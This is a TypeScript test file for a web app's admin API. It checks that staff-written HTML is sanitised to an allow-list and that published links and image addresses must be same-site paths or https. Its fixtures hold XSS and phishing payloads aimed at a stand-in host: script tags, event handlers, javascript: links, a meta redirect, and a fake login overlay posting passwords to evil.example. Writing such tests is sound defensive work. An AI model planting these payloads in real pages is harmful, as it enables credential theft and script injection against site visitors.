// Issue 28, item 1: HTML staff write for public pages (items' sketch and content, abilities'
// content) is kept to an allow-list when saved; addresses staff publish (campaign links, pictures)
// are same-site paths or https, never protocol-relative ("//host", "/\host").
import { describe, expect, it } from 'vitest';
import { setupApi } from '../setup/api.ts';
import { orderHelpers } from '../support/orders.ts';

const t = await setupApi();
const o = orderHelpers(t);

/** What the outside test put in: a redirect, a page overlay with a fake login, a frame, scripts, links away. */
const HOSTILE = [
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff">',
  '<form action="https://evil.example/login"><input name="password"><button>登录</button></form></div>',
  '<iframe src="https://evil.example/"></iframe>',
  '<script>alert(1)</script><style>body{display:none}</style>',
  '<p onclick="alert(1)">正文<b>加粗</b><sub>2</sub></p>',
  '<a href="javascript:alert(1)">脚本链接</a>',
  '<a href="//evil.example/x">协议相对</a>',
  '<a href="/\\evil.example/x">反斜杠</a>',
  '<a href="https://partner.example/" target="_self" rel="opener">合作方</a>',
  '<a href="/detail/abc">站内</a>',
  '<img src="//evil.example/a.png" alt="外站图"><img src="/images/a.png" onerror="alert(1)" alt="站内图">',
].join('');

/** What an allow-listed copy keeps of HOSTILE. */
const CLEAN =
  '登录' +
  '<p>正文<b>加粗</b><sub>2</sub></p>' +
  '<span>脚本链接</span><span>协议相对</span><span>反斜杠</span>' +
  '<a href="https://partner.example/" rel="noopener noreferrer" target="_blank">合作方</a>' +
  '<a href="/detail/abc">站内</a>' +
  '<img alt="外站图" /><img alt="站内图" src="/images/a.png" />';

const admin = async <T>(path: string, body: unknown) => {
  const res = await o.admin<T>(path, body);
  expect(res.body, `${path} ${JSON.stringify(res.body)}`).toMatchObject({ code: 1 });
  return res.body.data;
};

describe('staff-written HTML', () => {
  it('an item’s sketch and content are stored allow-listed, on add and on edit', async () => {
    const rid = 'html-clean-item';
    const added = await admin<{ sketch: string; content: string }>('catalogue/item/add', {
      rid,
      child_id: 11,
      name: '清洗测试',
      img: '/x.svg',
      price_fen: 100,
      unit: '元/样',
      sketch: HOSTILE,
      content: HOSTILE,
    });
    expect(added).toMatchObject({ sketch: CLEAN, content: CLEAN });
    const edited = await admin<{ sketch: string; content: string }>('catalogue/item/edit', {
      rid,
      sketch: `<p style="color:red">简介</p>${HOSTILE}`,
      content: HOSTILE,
    });
    expect(edited).toMatchObject({ sketch: `<p>简介</p>${CLEAN}`, content: CLEAN });
    const open = await t.post<{ sketch: string; content: string }>('/api/open/project/detail', { rid });
    expect(open.body.data).toMatchObject({ sketch: `<p>简介</p>${CLEAN}`, content: CLEAN });
  });

  it('an ability’s content is stored allow-listed, on add and on edit', async () => {
    const added = await admin<{ rid: string; content: string }>('catalogue/ability/add', {
      title: '清洗测试',
      img: '/a.svg',
      category: '测试',
      content: HOSTILE,
    });
    expect(added.content).toBe(CLEAN);
    const edited = await admin<{ content: string }>('catalogue/ability/edit', {
      rid: added.rid,
      content: `<h3>标题</h3>${HOSTILE}`,
    });
    expect(edited.content).toBe(`<h3>标题</h3>${CLEAN}`);
  });
});

describe('addresses staff publish', () => {
  const campaign = (link: string, image_url = '') =>
    o.admin('campaign/save', {
      title: '邀请有礼',
      text: '说明',
      link,
      image_url,
      starts_at: new Date(t.services.now()).toISOString(),
      ends_at: new Date(t.services.now() + 86_400_000).toISOString(),
    });

  it.each(['//evil.example/x', '/\\evil.example/x', 'http://evil.example/', 'javascript:alert(1)', '/a b'])(
    'a campaign link %s is refused',
    async (link) => {
      expect((await campaign(link)).body).toMatchObject({
        code: 0,
        msg: '[链接]应为 / 开头的站内路径或 https 地址',
      });
    },
  );

  it('a campaign takes a same-site path or an https address, and pictures likewise', async () => {
    expect((await campaign('/member/invite', '/images/banner-1.jpg')).body.code).toBe(1);
    expect((await campaign('https://partner.example/x', 'https://cdn.example/a.png')).body.code).toBe(1);
    expect((await campaign('/member/invite', '//evil.example/a.png')).body).toMatchObject({
      code: 0,
      msg: '[图片地址]应为 / 开头的站内路径或 https 地址',
    });
  });

  it('a catalogue picture at //host or /\\host is refused', async () => {
    for (const img of ['//evil.example/a.png', '/\\evil.example/a.png'])
      expect(
        (await o.admin('catalogue/ability/add', { title: 'x', img, category: '测试' })).body,
      ).toMatchObject({ code: 0, msg: '[图片]应为 / 开头的站内路径或 https 地址' });
  });
});
